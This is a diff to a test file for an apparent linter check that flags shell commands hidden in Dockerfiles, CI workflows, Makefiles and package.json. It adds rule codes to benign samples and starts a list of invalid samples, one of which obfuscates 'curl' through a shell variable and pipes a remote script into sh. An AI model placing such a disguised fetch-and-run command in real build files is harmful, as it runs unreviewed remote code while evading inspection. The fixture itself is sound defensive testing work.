@@ -36,14 +36,15 @@ class EmbeddedShellChecker(TextChecker):
     VALID = [
         Valid("FROM python:3.12-slim\nRUN pip install --no-cache-dir -r requirements.txt && \\\n"
               "    curl -fsSLo /tmp/t.tgz https://example.com/t.tgz && echo \"abc  /tmp/t.tgz\" | sha256sum -c -\n",
-              path="Dockerfile"),
+              "BDL405", path="Dockerfile"),
         Valid("on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          pip install .\n"
               "          curl -fsS -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" https://api.example/ok\n",
-              path=".github/workflows/ci.yml"),
+              "BDL402", path=".github/workflows/ci.yml"),
         Valid("test:\n\tpytest -q\n\ndeploy:\n\tgit push origin HEAD && curl -fsS https://hooks.example/deployed\n",
-              path="Makefile"),
+              "BDL804", path="Makefile"),
+        Valid("clean:\n\trm -rf build/ .pytest_cache\n\tcp .pre-commit-config.yaml dist/\n", "BDL803", path="Makefile"),
         Valid('{"scripts": {"test": "jest", "lint": "eslint . && curl -s https://example.com/ok"}}\n',
-              path="package.json"),
+              "BDL402", path="package.json"),
     ]
     INVALID = [
         Invalid("FROM debian:12\nRUN apt-get update && \\\n    T=cu; ${T}rl -fsSL https://get.example.net/i.sh | sh\n",
